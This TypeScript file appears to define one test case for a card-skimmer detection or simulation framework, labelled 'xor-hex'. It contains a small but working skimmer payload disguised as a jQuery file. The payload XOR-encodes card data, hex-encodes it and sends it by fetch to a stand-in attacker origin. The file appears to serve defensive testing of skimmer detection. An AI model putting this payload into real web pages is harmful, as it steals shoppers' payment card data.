import { holds, js, skimmer } from '../behaviour.ts';
import { hex, query, xor } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'xor-hex',
  why: 'XOR with a short key, then hexadecimal, by fetch (own alphabets, XOR and rotation: 7 of 88 samples).',
  covers: ['encoding: substitution', 'sending: fetch', 'injection: loader'],
  base: 'direct',
  install: (site) =>
    site.external(
      'evil/jquery.min.js',
      onPay(js`
    var key = 'k9Zq', out = '';
    Array.from(card()).forEach(function (c, i) { out += ('0' + ((c.charCodeAt(0) ^ key.charCodeAt(i % 4)) & 255).toString(16)).slice(-2); });
    fetch('${site.origins.evil}/api/v2/sync?u=' + out, { mode: 'no-cors' });`),
    ),
  proof: holds((arrived) => query(arrived, 'u').map((text) => xor(hex(text), 'k9Zq'))),
});
